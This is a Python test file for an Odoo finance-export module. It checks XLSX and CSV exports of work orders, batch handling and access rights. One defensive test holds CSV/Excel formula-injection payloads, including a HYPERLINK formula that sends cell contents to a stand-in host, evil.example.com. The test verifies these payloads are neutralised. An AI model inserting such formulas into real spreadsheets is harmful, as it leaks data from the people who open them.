import base64
import csv
import io
import json
from datetime import date, timedelta
from unittest.mock import patch

from openpyxl import load_workbook

from odoo import fields
from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from odoo.addons.spreadsheet.utils.validate_data import fields_in_spreadsheet

from .common import KlusheerenFinanceCase

ORDER_HEADER = [
    "Work order",
    "Ticket",
    "Completed on",
    "Contractor",
    "Contractor reference",
    "Customer",
    "Site",
    "Equipment",
    "Warranty",
    "Lines",
    "Amount excl. VAT",
    "Currency",
    "Export batch",
]
LINE_HEADER = [
    "Work order",
    "Contractor",
    "Type",
    "Article code",
    "Description",
    "Quantity",
    "Unit",
    "Unit price excl. VAT",
    "Subtotal excl. VAT",
]


@tagged("post_install", "-at_install")
class TestFinanceExport(KlusheerenFinanceCase):
    def setUp(self):
        super().setUp()
        self.with_lines = self.done_order(
            lines=[
                {"line_type": "call_out", "product_id": self.call_out.id},
                {"line_type": "labour", "name": "Monteur", "quantity": 1.5, "price_unit": 65},
                {"line_type": "material", "product_id": self.seal.id, "quantity": 2, "price_unit": 12.5},
            ],
            contractor_reference="F-34509-1",
            warranty=True,
        )
        self.lump_sum = self.done_order(self.other_equipment, amount_total=258.17, contractor_reference="CF-77")
        self.open = self.report().work_order_ids  # not done: never exported
        self.currency = self.env.company.currency_id.name

    def attachment_bytes(self, attachment):
        return base64.b64decode(attachment.datas)

    def test_xlsx_cell_by_cell(self):
        batch = self.new_batch()
        batch.action_export()
        self.assertEqual(batch.state, "exported")
        self.assertEqual(batch.work_order_ids, self.with_lines | self.lump_sum)
        self.assertEqual(self.with_lines.klusheeren_export_id, batch, "the work order knows its batch")
        self.assertEqual(batch.amount_total, 45 + 97.5 + 25 + 258.17)
        book = load_workbook(io.BytesIO(self.attachment_bytes(batch.xlsx_attachment_id)))
        self.assertEqual(book.sheetnames, ["Work orders", "Lines"])
        orders = [list(row) for row in book["Work orders"].iter_rows(values_only=True)]
        self.assertEqual(orders[0], ORDER_HEADER)
        done_on = fields.Datetime.context_timestamp(batch, self.with_lines.date_done).date()
        first = orders[1]
        self.assertEqual(first[:2], [self.with_lines.name, self.with_lines.ticket_id.number])
        self.assertEqual(first[2].date(), done_on)
        self.assertEqual(
            first[3:],
            [
                "Koeltechniek Jansen",
                "F-34509-1",
                "Klant Eén B.V.",
                "Demo locatie 1",
                "Koelkast 2.21",
                "Yes",
                3,
                167.5,
                self.currency,
                batch.name,
            ],
        )
        self.assertEqual(
            orders[2][3:],
            [
                "Cool Fix Ltd",
                "CF-77",
                "Klant Twee B.V.",
                "Locatie Utrecht",
                "Vaatwasser",
                "No",
                0,
                258.17,
                self.currency,
                batch.name,
            ],
        )
        total = orders[3]
        self.assertEqual(total[9], "Total")
        self.assertEqual(total[10], "=SUM(K2:K3)")
        self.assertEqual(len(orders), 4)
        lines = [list(row) for row in book["Lines"].iter_rows(values_only=True)]
        self.assertEqual(lines[0], LINE_HEADER)
        self.assertEqual(
            lines[1:],
            [
                [
                    self.with_lines.name,
                    "Koeltechniek Jansen",
                    "Call-out",
                    "VRK",
                    "[VRK] Voorrijkosten",
                    1,
                    "Units",
                    45,
                    45,
                ],
                [self.with_lines.name, "Koeltechniek Jansen", "Labour", "", "Monteur", 1.5, "Hours", 65, 97.5],
                [
                    self.with_lines.name,
                    "Koeltechniek Jansen",
                    "Material",
                    "AFD",
                    "[AFD] Afdichting",
                    2,
                    "Units",
                    12.5,
                    25,
                ],
                [self.lump_sum.name, "Cool Fix Ltd", "Lump sum", "", self.lump_sum.title, 1, "", 258.17, 258.17],
            ],
        )
        # the cached value of the total formula, for readers that do not calculate
        values = load_workbook(io.BytesIO(self.attachment_bytes(batch.xlsx_attachment_id)), data_only=True)
        self.assertAlmostEqual(values["Work orders"]["K4"].value, 425.67)

    def test_csv_for_dutch_excel_cell_by_cell(self):
        batch = self.new_batch()
        batch.action_export()
        raw = self.attachment_bytes(batch.csv_attachment_id)
        self.assertTrue(raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM: Excel reads the accents")
        self.assertIn("Klant Eén B.V.".encode(), raw)
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
        self.assertEqual(rows[0], ORDER_HEADER + LINE_HEADER[2:])
        done_on = fields.Datetime.context_timestamp(batch, self.with_lines.date_done).strftime("%d-%m-%Y")
        head = [
            self.with_lines.name,
            self.with_lines.ticket_id.number,
            done_on,
            "Koeltechniek Jansen",
            "F-34509-1",
            "Klant Eén B.V.",
            "Demo locatie 1",
            "Koelkast 2.21",
            "Yes",
            "3",
            "167,50",
            self.currency,
            batch.name,
        ]
        self.assertEqual(rows[1], head + ["Call-out", "VRK", "[VRK] Voorrijkosten", "1", "Units", "45,00", "45,00"])
        self.assertEqual(rows[2], head + ["Labour", "", "Monteur", "1,5", "Hours", "65,00", "97,50"])
        self.assertEqual(rows[3], head + ["Material", "AFD", "[AFD] Afdichting", "2", "Units", "12,50", "25,00"])
        self.assertEqual(rows[4][10], "258,17")
        self.assertEqual(rows[4][13:], ["Lump sum", "", self.lump_sum.title, "1", "", "258,17", "258,17"])
        self.assertEqual(len(rows), 5)
        self.assertIn(b"\r\n", raw)

    def test_formula_injection_is_neutralised(self):
        evil = self.done_order(
            lines=[
                {"name": '=HYPERLINK("http://evil.example.com?"&A1,"klik")', "price_unit": 1},
                {"name": "+31 20 1234567", "price_unit": 1},
                {"name": "-2+3", "price_unit": 1},
                {"name": "@SUM(A1:A9)", "price_unit": 1},
                {"name": "\tTAB", "price_unit": 1},
                {"name": "Gewoon = niets", "price_unit": 1},
            ],
            contractor_reference="=1+1",
        )
        batch = self.new_batch(contractor_ids=[(6, 0, self.contractor.ids)])
        batch.action_export()
        self.assertIn(evil, batch.work_order_ids)
        rows = list(
            csv.reader(io.StringIO(self.attachment_bytes(batch.csv_attachment_id).decode("utf-8-sig")), delimiter=";")
        )
        evil_rows = [row for row in rows if row[0] == evil.name]
        self.assertEqual(
            [row[15] for row in evil_rows],
            [
                '\'=HYPERLINK("http://evil.example.com?"&A1,"klik")',
                "'+31 20 1234567",
                "'-2+3",
                "'@SUM(A1:A9)",
                "TAB",
                "Gewoon = niets",
            ],  # the model strips a leading tab
        )
        self.assertEqual(evil_rows[0][4], "'=1+1")
        # in the XLSX the same texts are text cells, never formulas
        book = load_workbook(io.BytesIO(self.attachment_bytes(batch.xlsx_attachment_id)))
        sheet = book["Lines"]
        cells = [row for row in sheet.iter_rows(min_row=2) if row[0].value == evil.name]
        self.assertEqual(cells[0][4].value, '=HYPERLINK("http://evil.example.com?"&A1,"klik")')
        self.assertEqual(cells[0][4].data_type, "s", "a string cell, not a formula")
        self.assertTrue(all(row[4].data_type == "s" for row in cells))
        reference = [row for row in book["Work orders"].iter_rows(min_row=2) if row[0].value == evil.name][0][4]
        self.assertEqual((reference.value, reference.data_type), ("=1+1", "s"))

    def test_csv_tab_and_carriage_return(self):
        from ..models.klusheeren_finance_export import neutralise

        self.assertEqual(neutralise("\tx"), "'\tx")
        self.assertEqual(neutralise("\rx"), "'\rx")
        self.assertEqual(neutralise("x=1"), "x=1")
        self.assertEqual(neutralise(False), "")

    def test_each_work_order_is_exported_once(self):
        first = self.new_batch()
        first.action_export()
        second = self.new_batch()
        with self.assertRaisesRegex(UserError, "no completed work orders"):
            second.action_export()
        self.assertEqual(second.state, "draft")
        self.assertEqual(second.candidate_count, 0)
        later = self.done_order()
        second.invalidate_recordset(["candidate_count"])
        self.assertEqual(second.candidate_count, 1)
        second.action_export()
        self.assertEqual(second.work_order_ids, later)
        self.assertEqual(first.work_order_ids, self.with_lines | self.lump_sum)
        with self.assertRaisesRegex(UserError, "exported already"):
            first.action_export()

    def test_an_order_taken_meanwhile_by_another_batch_is_not_exported_twice(self):
        batch = self.new_batch()
        other = self.new_batch()
        ids = (self.with_lines | self.lump_sum).ids
        # another transaction bound one of the orders after this batch searched them
        self.env.cr.execute(
            "UPDATE klusheeren_work_order SET klusheeren_export_id = %s WHERE id = %s", [other.id, self.lump_sum.id]
        )
        self.env.invalidate_all()
        with (
            patch.object(type(batch), "_candidate_domain", lambda self: [("id", "in", ids)]),
            self.assertRaisesRegex(UserError, "exported by another batch"),
        ):
            batch.action_export()
        self.assertEqual(self.lump_sum.klusheeren_export_id, other, "the other batch keeps it")

    def test_selection_by_contractor_and_customer(self):
        by_contractor = self.new_batch(contractor_ids=[(6, 0, self.contractor_en.ids)])
        self.assertEqual(by_contractor.candidate_count, 1)
        by_customer = self.new_batch(customer_ids=[(6, 0, self.customer.ids)])
        self.assertEqual(by_customer.candidate_count, 1)
        by_customer.action_export()
        self.assertEqual(by_customer.work_order_ids, self.with_lines)
        outside = self.new_batch(date_from=date.today() - timedelta(days=30), date_to=date.today() - timedelta(days=2))
        self.assertEqual(outside.candidate_count, 0)
        wrong = self.new_batch(date_from=date.today(), date_to=date.today() - timedelta(days=1))
        with self.assertRaisesRegex(UserError, "start date"):
            wrong.action_export()

    def test_finance_exports_the_manager_reopens(self):
        batch = self.new_batch(user=self.finance)
        batch.action_export()
        self.assertEqual(batch.exported_by_id, self.finance)
        xlsx = batch.xlsx_attachment_id
        self.assertEqual(batch.action_download_xlsx()["url"], f"/web/content/{xlsx.id}?download=true")
        with self.assertRaises(AccessError):
            batch.with_user(self.backoffice).action_reopen("Bedrag fout")
        with self.assertRaises(AccessError):
            batch.with_user(self.finance).action_reopen("Bedrag fout")
        with self.assertRaisesRegex(UserError, "batch first"):
            self.with_lines.with_user(self.manager).action_reopen("Bedrag fout")
        with self.assertRaisesRegex(UserError, "deleted"):
            batch.with_user(self.manager).unlink()
        batch.with_user(self.manager).action_reopen("Bedrag van KH-OC fout")
        self.assertEqual(batch.state, "draft")
        self.assertFalse(batch.work_order_ids)
        self.assertFalse(self.with_lines.klusheeren_export_id)
        self.assertTrue(xlsx.exists(), "the files made before stay")
        self.assertEqual(xlsx.res_id, batch.id)
        # corrected and exported again
        self.with_lines.with_user(self.manager).action_reopen("Bedrag fout")
        self.with_lines.sudo().contractor_save({"lines": []})
        self.with_lines.sudo().action_done()
        batch.action_export()
        self.assertEqual(batch.work_order_ids, self.with_lines | self.lump_sum)
        self.assertNotEqual(batch.xlsx_attachment_id, xlsx)

    def test_portal_users_reach_no_batch(self):
        portal = self.env["res.users"].create(
            {"name": "Portaal", "login": "kh_portal_fin", "group_ids": [(4, self.env.ref("base.group_portal").id)]}
        )
        batch = self.new_batch()
        with self.assertRaises(AccessError):
            batch.with_user(portal).action_export()
        with self.assertRaises(AccessError):
            self.Export.with_user(portal).search([])

    def test_dashboards_use_existing_fields(self):
        dashboards = self.env["spreadsheet.dashboard"].search(
            [("dashboard_group_id", "=", self.env.ref("klusheeren_finance.spreadsheet_dashboard_group_klusheeren").id)]
        )
        self.assertEqual(len(dashboards), 3)
        for dashboard in dashboards:
            data = json.loads(base64.b64decode(dashboard.spreadsheet_binary_data))
            used = fields_in_spreadsheet(data)
            self.assertEqual(set(used), {"klusheeren.ticket.report"})
            for chain in used["klusheeren.ticket.report"]:
                self.assertIn(chain.split(".")[0], self.env["klusheeren.ticket.report"]._fields, dashboard.name)
            # each pivot of the dashboard answers
            for pivot in data["pivots"].values():
                self.env[pivot["model"]].with_user(self.backoffice).formatted_read_group(
                    pivot["domain"],
                    [row["fieldName"] for row in pivot["rows"]],
                    [
                        f"{m['fieldName']}:{self.env[pivot['model']]._fields[m['fieldName']].aggregator}"
                        for m in pivot["measures"]
                    ],
                )
